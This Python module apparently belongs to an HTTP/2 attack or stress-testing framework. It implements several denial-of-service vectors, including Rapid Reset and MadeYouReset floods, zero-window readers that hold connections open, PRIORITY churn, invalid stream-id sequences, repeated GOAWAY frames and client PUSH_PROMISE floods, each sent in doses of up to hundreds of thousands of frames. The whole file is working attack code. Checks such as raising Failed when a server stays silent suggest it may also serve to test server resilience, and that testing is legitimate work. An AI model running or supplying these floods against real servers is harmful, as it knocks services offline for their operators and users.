"""Vectors 12, 13, 18, 20, 21, 28 and 30: streams that are opened so that others pay for them."""

import http2_raw as h2
from attack import Failed, repeat, vector

MALFORMED = {
    "WINDOW_UPDATE 0": lambda stream: h2.window_update(stream, 0),
    "WINDOW_UPDATE overflow": lambda stream: h2.window_update(stream, h2.WINDOW_MOST),
    "DATA after END_STREAM": lambda stream: h2.frame(h2.DATA, h2.END_STREAM, stream, b"x"),
    "PRIORITY of four bytes": lambda stream: h2.frame(h2.PRIORITY, 0, stream, b"\0" * 4),
    "second HEADERS": lambda stream: h2.headers(stream, h2.REPEAT),
    "PRIORITY on itself": lambda stream: h2.priority(stream, stream),
}


def opening(attack, make, count):
    """The first call teaches the table, so that the others are short: make(stream, block)."""
    first = make(1, h2.request_block(attack.target.path, remember=True))
    return first + b"".join(make(stream, h2.REPEAT) for stream in h2.streams(count, 3))


@vector(12, "rapid reset", cpu=1.5, cut=True)
def rapid_reset(attack):
    count = attack.dose(200000)
    attack.flood("HEADERS, RST_STREAM", opening(
        attack, lambda stream, block: h2.headers(stream, block) + h2.rst_stream(stream), count))
    attack.flood("a whole call, RST_STREAM", opening(
        attack, lambda stream, block: h2.request(stream, block, attack.target.payload) + h2.rst_stream(stream), count))


@vector(13, "MadeYouReset", cpu=1.5, cut=True)
def made_you_reset(attack):
    """The server resets, the attacker never does: a limit of the client's resets does not help."""
    for name, malformed in MALFORMED.items():
        attack.flood(name, opening(
            attack, lambda stream, block, bad=malformed:
            h2.request(stream, block, attack.target.payload) + bad(stream), attack.dose(20000)))


@vector(18, "zero-window reader", cpu=4.0)
def zero_window(attack):
    """Calls that are answered, and answers that are never taken."""
    target = attack.target
    block = h2.request_block(target.list_path)
    connections = []
    for _ in range(attack.dose(40, 15)):
        connection = attack.connect(own_settings=((h2.HEADER_TABLE_SIZE, 0), (h2.INITIAL_WINDOW_SIZE, 0)))
        connection.push(b"".join(h2.request(stream, block, target.list_payload) for stream in h2.streams(100)))
        connections.append(connection)
        attack.hold(connections, 0.15)  # it is the answers that pile up, not the questions
    attack.hold(connections, 6)
    open_still = sum(1 for connection in connections if connection.cut is None)
    refused = sum(1 for connection in connections for one in connection.streams.values() if one.status() == 8)
    attack.note(f"{len(connections)} connections x 100 calls, {refused} refused, {open_still} connections open after "
                "6 s")


@vector(20, "PRIORITY churn", cpu=1.0, cut=True)
def priority_churn(attack):
    count = attack.dose(500000)
    attack.flood("of idle streams", repeat(lambda n: h2.priority(2 * (n % 5000) + 1, 2 * ((n * 7) % 5000) + 3), count))


@vector(21, "stream id exhaustion, decrease", cpu=0.5)
def stream_ids(attack):
    payload = attack.target.payload
    block = h2.request_block(attack.target.path)
    for name, ids in (("the last, then more", (h2.WINDOW_MOST, 1, h2.WINDOW_MOST)), ("decrease", (101, 99, 3, 1)),
                      ("even", (2, 4)), ("zero", (0,)), ("twice", (1, 1, 1)), ("reserved bit", (2**31 + 1, 2**31 + 3)),
                      ("in leaps", range(1, h2.WINDOW_MOST, h2.WINDOW_MOST // 50))):
        connection = attack.flood(name, b"".join(h2.request(stream, block, payload) for stream in ids))
        if connection.cut is None and connection.frames[h2.SETTINGS] == 0:
            raise Failed(f"{name}: the server is silent")


@vector(28, "GOAWAY, then streams", cpu=1.5)
def goaway_then_streams(attack):
    attack.flood("calls after it", h2.goaway(0) + opening(
        attack, lambda stream, block: h2.request(stream, block, attack.target.payload), attack.dose(5000)))
    attack.flood("again and again", h2.goaway(0, 0, b"x" * 16000) * attack.dose(2000))
    attack.flood("without a text", h2.goaway(h2.WINDOW_MOST) * attack.dose(200000))


@vector(30, "PUSH_PROMISE from the client", cpu=0.5, cut=True)
def push_promise(attack):
    block = h2.request_block(attack.target.path)
    promise = repeat(lambda n: h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, b"\0\0\0\2" + block), attack.dose(50000))
    attack.flood("on an open stream", h2.headers(1, block) + promise)
